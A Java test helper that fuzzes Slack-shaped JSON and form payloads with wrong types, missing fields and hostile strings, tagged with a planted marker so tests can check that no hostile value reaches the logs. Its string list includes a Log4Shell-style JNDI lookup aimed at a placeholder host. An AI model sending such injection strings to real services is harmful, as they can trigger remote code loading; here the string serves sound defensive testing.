package kring.slack;

import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Mutates Slack-shaped payloads the way a fuzzer would: a field of the wrong type, a field missing,
 * a value too long or hostile, a field Slack never sends. Works on JSON bodies, on forms and on the
 * JSON {@code payload} field of a form, so the seeds stay real-shaped and only a few places change.
 */
final class SlackMutations {

  /** A value that must never reach the log; every hostile string carries it. */
  static final String PLANTED = "Zq9fuzzPLANT";

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  private static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "${jndi:ldap://fuzz.invalid/" + PLANTED + "}",
          "\u0000" + PLANTED,
          "<@U1|" + PLANTED + ">",
          PLANTED.repeat(300),
          "null",
          "T0" + PLANTED,
          "1700000000.0001",
          "-1",
          "start " + PLANTED,
          "\uD83D\uDE00 " + PLANTED);

  private final SplittableRandom random;

  SlackMutations(long seed) {
    this.random = new SplittableRandom(seed);
  }

  /** A mutation of a JSON body: one to three changes somewhere in its tree. */
  String json(String body) {
    JsonNode root = SlackPayloads.JSON.readTree(body);
    int changes = 1 + random.nextInt(3);
    for (int i = 0; i < changes; i++) {
      mutate(root);
    }
    return root.toString();
  }

  /** A mutation of a form body: a field's value, a missing field, or its JSON payload changed. */
  String form(String body) {
    Map<String, String> fields = new LinkedHashMap<>();
    for (String pair : body.split("&")) {
      int equals = pair.indexOf('=');
      fields.put(
          URLDecoder.decode(pair.substring(0, equals), StandardCharsets.UTF_8),
          URLDecoder.decode(pair.substring(equals + 1), StandardCharsets.UTF_8));
    }
    if (fields.containsKey("payload") && random.nextInt(8) != 0) {
      fields.put("payload", json(fields.get("payload")));
      return SlackPayloads.form(fields);
    }
    List<String> names = new ArrayList<>(fields.keySet());
    String name = names.get(random.nextInt(names.size()));
    switch (random.nextInt(4)) {
      case 0 -> fields.remove(name);
      case 1 -> fields.put(name, STRINGS.get(random.nextInt(STRINGS.size())));
      case 2 -> fields.put(name, value().toString());
      default -> fields.put(PLANTED, STRINGS.get(random.nextInt(STRINGS.size())));
    }
    return SlackPayloads.form(fields);
  }

  private void mutate(JsonNode root) {
    List<JsonNode> containers = new ArrayList<>();
    collect(root, containers);
    JsonNode target = containers.get(random.nextInt(containers.size()));
    if (target instanceof ObjectNode object) {
      List<String> names = new ArrayList<>(object.propertyNames());
      if (names.isEmpty() || random.nextInt(6) == 0) {
        object.set(random.nextBoolean() ? PLANTED : "type", value());
        return;
      }
      String name = names.get(random.nextInt(names.size()));
      if (random.nextInt(5) == 0) {
        object.remove(name);
      } else {
        object.set(name, value());
      }
    } else if (target instanceof ArrayNode array) {
      if (array.isEmpty() || random.nextInt(4) == 0) {
        array.add(value());
      } else {
        array.set(random.nextInt(array.size()), value());
      }
    }
  }

  private static void collect(JsonNode node, List<JsonNode> into) {
    if (node.isObject() || node.isArray()) {
      into.add(node);
      for (JsonNode child : node) {
        collect(child, into);
      }
    }
  }

  /** A value of any JSON type, often not the one the field should have. */
  private JsonNode value() {
    return switch (random.nextInt(10)) {
      case 0 -> NODES.objectNode();
      case 1 -> NODES.arrayNode();
      case 2 -> NODES.nullNode();
      case 3 -> NODES.booleanNode(random.nextBoolean());
      case 4 -> NODES.numberNode(random.nextLong());
      case 5 -> NODES.numberNode(random.nextDouble() * 1e12);
      case 6 -> {
        ObjectNode object = NODES.objectNode();
        object.put("id", STRINGS.get(random.nextInt(STRINGS.size())));
        object.set("type", value());
        yield object;
      }
      case 7 -> NODES.arrayNode().add(STRINGS.get(random.nextInt(STRINGS.size())));
      case 8 -> NODES.numberNode(new java.math.BigInteger("99999999999999999999999"));
      default -> NODES.stringNode(STRINGS.get(random.nextInt(STRINGS.size())));
    };
  }
}
